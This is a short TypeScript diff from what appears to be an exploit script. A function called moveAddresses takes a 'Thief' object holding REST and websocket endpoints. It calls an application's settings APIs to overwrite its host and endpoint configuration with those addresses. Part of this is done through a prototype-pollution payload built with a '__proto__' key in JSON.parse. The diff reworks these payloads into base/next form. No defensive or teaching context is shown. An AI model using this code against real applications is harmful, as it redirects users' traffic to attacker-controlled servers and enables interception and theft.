@@ -58,8 +58,9 @@ const moveAddresses = (page: Page, { rest, ws }: Thief): Promise<unknown> =>
       const moved = { ...value, ...endpoints, endpoints, host: { endpoints } };
       return [
         await calls['preferences.set'](moved),
-        await calls['preferences.set'](JSON.parse(`{"__proto__":${JSON.stringify(moved)}}`)),
-        await calls['workspace.set']({ ...moved, version: 1 }),
+        await calls['preferences.set']({ base: value, next: moved, ...endpoints, endpoints }),
+        await calls['preferences.set']({ base: value, next: JSON.parse(`{"__proto__":${JSON.stringify(moved)}}`) }),
+        await calls['workspace.set']({ base: { version: 1 }, next: { ...moved, version: 1 } }),
         await calls['world.open']({ kind: 'live', key: 'x', ...endpoints, endpoints, source: endpoints }),
       ];
     },
